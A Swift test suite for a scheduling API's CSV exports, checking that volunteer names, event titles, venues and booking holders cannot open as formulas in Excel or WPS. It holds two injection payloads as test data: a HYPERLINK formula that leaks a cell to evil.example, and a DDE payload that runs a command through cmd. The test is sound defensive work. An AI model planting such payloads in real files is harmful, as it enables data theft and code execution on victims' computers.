import Foundation
import Hummingbird
import LianjianDomain
import Testing

/// Issue 14: no field of any CSV the API writes opens as a formula in Excel or WPS.
@Suite("CSV formula injection")
struct CSVInjectionTests {
    /// The review's payloads: both start with a digit after the sign, which the old rule let through.
    static let hyperlink = "-1+HYPERLINK(\"http://evil.example/?leak=\"&A1)"
    static let command = "+1+cmd|' /C calc'!A0"

    /// Every cell of `csv`, checked: none starts as a formula, and a payload comes back as text.
    static func expectNeutral(_ csv: String, payloads: [String], _ what: String) throws {
        let rows = try CSVTable.parse(Data(csv.utf8))
        #expect(rows.count > 1, "\(what): no rows")
        for cell in rows.joined() {
            // The one formula written on purpose: `="13937100001"`, digits only (a phone kept as text).
            if cell.hasPrefix("=\""), cell.hasSuffix("\""), CSVTable.isDigitString(String(cell.dropFirst(2).dropLast())) { continue }
            #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "\(what): \(cell) opens as a formula")
        }
        for payload in payloads {
            #expect(rows.joined().contains("'" + payload), "\(what): \(payload) is not in the file as text")
        }
    }

    @Test func theRosterCSVNeutralisesVolunteersEventsAndVenues() async throws {
        try await withAPI { api in
            let f = try await ClinicFixture.make(api)
            for (i, name) in [Self.hyperlink, Self.command].enumerated() {
                let v = try await api.post("/v1/volunteers", [
                    "name": name, "phone": "1390000030\(i)", "community_id": f.community, "unit_id": f.unit,
                    "skills": [["skill": "companion"]], "availability": [["weekday": 6, "start": "08:00", "end": "18:00"]],
                ])
                #expect(v.status == .created, "\(v.text)")
            }
            for (title, venue) in [(Self.hyperlink, Self.command), (Self.command, Self.hyperlink)] {
                let e = try await api.post("/v1/events", ["project_id": f.project, "title": title, "venue": venue,
                                                          "start": "2026-12-05T09:00", "end": "2026-12-05T11:00",
                                                          "roles": [["skill": "companion", "count": 1]]])
                #expect(e.status == .created, "\(e.text)")
            }
            let g = try await api.generate(["community_id": f.community, "from": "2026-12-01", "to": "2026-12-07", "time_limit_seconds": 0.3])
            let roster = try #require((g.json["version"] as? [String: Any])?["id"] as? String, "\(g.text)")
            for lang in ["zh", "en"] {
                let csv = try await api.get("/v1/rosters/\(roster)/csv?lang=\(lang)")
                #expect(csv.status == .ok)
                let rows = try CSVTable.parse(Data(csv.text.utf8))
                #expect(rows.count == 3, "two events, one volunteer each: \(csv.text)")
                // Volunteer (6), event (3) and venue (4) columns each hold both payloads.
                for column in [3, 4, 6] {
                    #expect(Set(rows.dropFirst().map { $0[column] }) == ["'" + Self.hyperlink, "'" + Self.command], "column \(column): \(csv.text)")
                }
                try Self.expectNeutral(csv.text, payloads: [Self.hyperlink, Self.command], "roster csv \(lang)")
            }
        }
    }

    @Test func theTimetableCSVNeutralisesHoldersAndUnits() async throws {
        try await withAPI { api in
            let park = try await SeedCarPark.make(api)
            let rename = try await api.put("/v1/units/\(park.hospital)", ["code": "tcm-hospital", "name": Self.hyperlink, "kind": "hospital",
                                                                           "liaison_name": "李", "liaison_phone": "13700000000"])
            #expect(rename.status == .ok, "\(rename.text)")
            // The hospital's visitor on Friday, the Saturday screening.
            let visit = try await park.book(["user_class": "unit", "unit_id": park.hospital, "holder": Self.command,
                                             "start": "2026-12-04T09:00", "end": "2026-12-04T10:00"])
            #expect(visit.status == .created, "\(visit.text)")
            let screening = try await park.book(["user_class": "events", "holder": Self.hyperlink, "start": "2026-12-05T08:00", "end": "2026-12-05T09:00"])
            #expect(screening.status == .created, "\(screening.text)")
            for lang in ["zh", "en"] {
                let csv = try await api.get("/v1/facilities/\(park.facility)/timetable?date=2026-12-04&days=2&format=csv&lang=\(lang)")
                #expect(csv.status == .ok)
                try Self.expectNeutral(csv.text, payloads: [Self.hyperlink, Self.command], "timetable csv \(lang)")
            }
        }
    }
}
